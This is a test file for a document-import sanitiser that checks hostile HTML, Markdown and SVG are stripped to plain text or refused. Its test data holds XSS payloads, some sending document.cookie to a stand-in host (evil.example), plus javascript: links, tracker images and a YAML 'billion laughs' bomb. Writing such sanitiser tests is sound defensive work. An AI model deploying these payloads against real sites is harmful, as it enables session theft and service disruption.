// Hostile HTML, Markdown and SVG: scripts, event handlers, javascript: URLs, remote images and CSS never survive import; SVG files are refused.
import { afterEach, describe, expect, it } from 'vitest';
import { getDocumentText, type RepositoryDb } from '../../../shared/db';
import { extractText } from '../../../shared/import';
import { importFiles } from '../../../shared/import/pipeline';
import { freshDb, testContext } from '../../helpers';

const bytes = (text: string) => new TextEncoder().encode(text);

/** Markup an attacker can hide in a page; the innocent word in each must survive, the rest must not. */
const PAYLOADS: Array<[string, string]> = [
  ['inline script', '<p>Wohnen</p><script>fetch("https://evil.example/steal?c="+document.cookie)</script>'],
  ['script with odd casing and attributes', '<p>Wohnen</p><ScRiPt type="module" src="https://evil.example/x.js"></ScRiPt>'],
  ['unclosed script', '<p>Wohnen</p><script>alert(1)'],
  ['event handlers', '<p onclick="alert(1)" onmouseover=alert(2)>Wohnen</p><body onload="alert(3)">'],
  ['image error handler', '<img src=x onerror="alert(1)">Wohnen'],
  ['javascript: link', '<a href="javascript:alert(1)">Wohnen</a>'],
  ['entity-encoded javascript: link', '<a href="&#106;avascript:alert(1)">Wohnen</a>'],
  ['data: link', '<a href="data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==">Wohnen</a>'],
  ['remote image', '<p>Wohnen <img src="https://tracker.example/pixel.gif?doc=confidential"></p>'],
  ['remote stylesheet', '<link rel="stylesheet" href="https://evil.example/x.css"><p>Wohnen</p>'],
  ['CSS with remote URL and expression', '<style>@import url(https://evil.example/a.css); p { background: url("https://evil.example/b.png"); width: expression(alert(1)) }</style><p>Wohnen</p>'],
  ['inline style with remote URL', '<p style="background:url(https://evil.example/c.png)">Wohnen</p>'],
  ['iframe and srcdoc', '<iframe srcdoc="<script>alert(1)</script>" src="https://evil.example"></iframe><p>Wohnen</p>'],
  ['object and embed', '<object data="https://evil.example/x.swf"></object><embed src="https://evil.example/y.swf"><p>Wohnen</p>'],
  ['meta refresh and base', '<meta http-equiv="refresh" content="0;url=https://evil.example"><base href="https://evil.example/"><p>Wohnen</p>'],
  ['inline SVG with script', '<svg onload="alert(1)"><script>alert(2)</script><image href="https://evil.example/i.png"/></svg><p>Wohnen</p>'],
  ['MathML', '<math><maction actiontype="statusline" xlink:href="javascript:alert(1)">x</maction></math><p>Wohnen</p>'],
  ['form that posts away', '<form action="https://evil.example/post"><input name="q" value="secret"><button formaction="javascript:alert(1)">Go</button></form><p>Wohnen</p>'],
  ['template and noscript', '<template><script>alert(1)</script></template><noscript><img src="https://evil.example/n.gif"></noscript><p>Wohnen</p>'],
  ['comment hiding markup', '<!--<script>alert(1)</script>--><p>Wohnen</p>'],
  ['CDATA and processing instruction', '<![CDATA[<script>alert(1)</script>]]><?xml-stylesheet href="https://evil.example/s.xsl"?><p>Wohnen</p>'],
  ['mutation XSS shape', '<noscript><p title="</noscript><img src=x onerror=alert(1)>">Wohnen</p></noscript><p>Wohnen</p>'],
];

// The unclosed script goes last: like a browser, the reader treats everything after it as script.
const ALL_IN_ONE = [...PAYLOADS.filter(([label]) => label !== 'unclosed script'), ...PAYLOADS.filter(([label]) => label === 'unclosed script')]
  .map(([, payload]) => payload)
  .join('\n');

/** What must never be in stored text: markup, script, scheme or a remote address. */
const NEVER = [/<\s*\/?\s*[a-z]/i, /alert\(/, /javascript:/i, /https?:\/\//, /onerror|onload|onclick/i, /document\.cookie/, /expression\(/];

let db: RepositoryDb | undefined;
afterEach(() => db?.close());

describe('hostile HTML becomes plain text', () => {
  it.each(PAYLOADS)('%s', async (_label, payload) => {
    const page = `<!doctype html><html><head><title>Bericht</title></head><body>${payload}</body></html>`;
    const result = await extractText({ name: 'page.html', path: 'page.html', bytes: bytes(page) });
    expect(result.ok).toBe(true);
    if (!result.ok) return;
    expect(result.value.text).toContain('Wohnen');
    for (const pattern of NEVER) {
      expect(result.value.text).not.toMatch(pattern);
      expect(result.value.title ?? '').not.toMatch(pattern);
    }
  });

  it.each(PAYLOADS)('%s, as raw HTML inside Markdown', async (_label, payload) => {
    const markdown = `# Notes\n\n${payload}\n\nEnde.\n`;
    const result = await extractText({ name: 'notes.md', path: 'notes.md', bytes: bytes(markdown) });
    expect(result.ok).toBe(true);
    if (!result.ok) return;
    for (const pattern of NEVER) expect(result.value.text).not.toMatch(pattern);
  });

  it('Markdown links and images keep their words, never their targets', async () => {
    const markdown = '[Wohnen](javascript:alert(1)) ![Bild](https://tracker.example/p.gif) <https://evil.example/auto> [ref][r]\n\n[r]: https://evil.example/ref\n';
    const result = await extractText({ name: 'links.md', path: 'links.md', bytes: bytes(markdown) });
    expect(result.ok).toBe(true);
    if (!result.ok) return;
    expect(result.value.text).toContain('Wohnen');
    expect(result.value.text).not.toMatch(/javascript:|alert\(/);
  });

  it('a YAML "billion laughs" in Markdown front matter is not expanded: it is left unread, with a warning', async () => {
    const levels = ['a: &a ["lol","lol","lol","lol","lol","lol","lol","lol","lol"]'];
    for (let i = 1; i < 9; i++) levels.push(`${String.fromCharCode(97 + i)}: &${String.fromCharCode(97 + i)} [${Array(9).fill(`*${String.fromCharCode(96 + i)}`).join(',')}]`);
    const markdown = `---\n${levels.join('\n')}\n---\n# Notes\n\nWohnen in Wien.\n`;
    const started = performance.now();
    const result = await extractText({ name: 'laughs.md', path: 'laughs.md', bytes: bytes(markdown) });
    expect(performance.now() - started).toBeLessThan(10_000);
    expect(result.ok).toBe(true);
    if (!result.ok) return;
    expect(result.value.attributes).toEqual({});
    // The unread front matter stays in the text as written (nothing is lost), never expanded.
    expect(result.value.text).toContain('Wohnen in Wien.');
    expect(result.value.text.length).toBeLessThan(markdown.length);
    expect(result.value.warnings.join(' ')).toMatch(/^front matter ignored: it is not valid YAML/);
  });

  it('what is stored in the repository is the same plain text', async () => {
    db = freshDb();
    const page = `<html><head><title>Graz</title></head><body>${ALL_IN_ONE}</body></html>`;
    const report = await importFiles(db, testContext, [{ name: 'all.html', path: 'all.html', bytes: bytes(page) }], { gazetteer: null });
    const outcome = report.outcomes[0]!;
    expect(outcome.status).toBe('imported');
    if (outcome.status !== 'imported') return;
    const text = await getDocumentText(db, outcome.documentId);
    const document = await db.documents.get(outcome.documentId);
    for (const pattern of NEVER) {
      expect(text).not.toMatch(pattern);
      expect(document?.title).not.toMatch(pattern);
    }
  });

  it('markup written inside <title> is the literal text of the title (HTML reads it as text), kept as text', async () => {
    const page = '<html><head><title>Graz <img src=x onerror=alert(1)></title></head><body><p>Wohnen</p></body></html>';
    const result = await extractText({ name: 'title.html', path: 'title.html', bytes: bytes(page) });
    expect(result.ok && result.value.title).toBe('Graz <img src=x onerror=alert(1)>');
    expect(result.ok && result.value.text).toBe('Wohnen');
  });
});

const SVG = `<?xml version="1.0"?>
<svg xmlns="http://www.w3.org/2000/svg" xmlns:xlink="http://www.w3.org/1999/xlink" onload="alert(1)">
  <script>fetch('https://evil.example/?' + document.cookie)</script>
  <image xlink:href="https://tracker.example/p.png"/>
  <text>Wohnen</text>
</svg>`;

describe('SVG files', () => {
  it('an .svg file is refused as a format Comparanda does not import, naming the file', async () => {
    const result = await extractText({ name: 'chart.svg', path: 'chart.svg', bytes: bytes(SVG) });
    expect(result.ok).toBe(false);
    if (result.ok) return;
    expect(result.error.code).toBe('unsupported-format');
    expect(result.error.message).toMatch(/^chart\.svg is not a format Comparanda can import \(\.svg\)/);
  });

  it('an .svg refused in a batch stores nothing', async () => {
    db = freshDb();
    const report = await importFiles(db, testContext, [{ name: 'chart.svg', path: 'chart.svg', bytes: bytes(SVG) }], { gazetteer: null });
    expect(report.outcomes[0]).toMatchObject({ status: 'failed', code: 'unsupported-format' });
    expect(await db.documents.count()).toBe(0);
    expect(await db.sources.count()).toBe(0);
  });

  it('SVG renamed .html is read as a page: the script, handler and image are dropped with the SVG', async () => {
    const result = await extractText({ name: 'chart.html', path: 'chart.html', bytes: bytes(`<p>Bericht</p>${SVG.replace(/^<\?xml[^>]*>/, '')}`) });
    expect(result.ok).toBe(true);
    if (!result.ok) return;
    expect(result.value.text).toBe('Bericht');
  });

  it('SVG renamed .txt is kept as literal text, which the app shows as text and never as markup', async () => {
    const result = await extractText({ name: 'chart.txt', path: 'chart.txt', bytes: bytes(SVG) });
    expect(result.ok).toBe(true);
    if (!result.ok) return;
    expect(result.value.sourceFormat).toBe('txt');
    expect(result.value.text).toContain('<script>');
  });
});
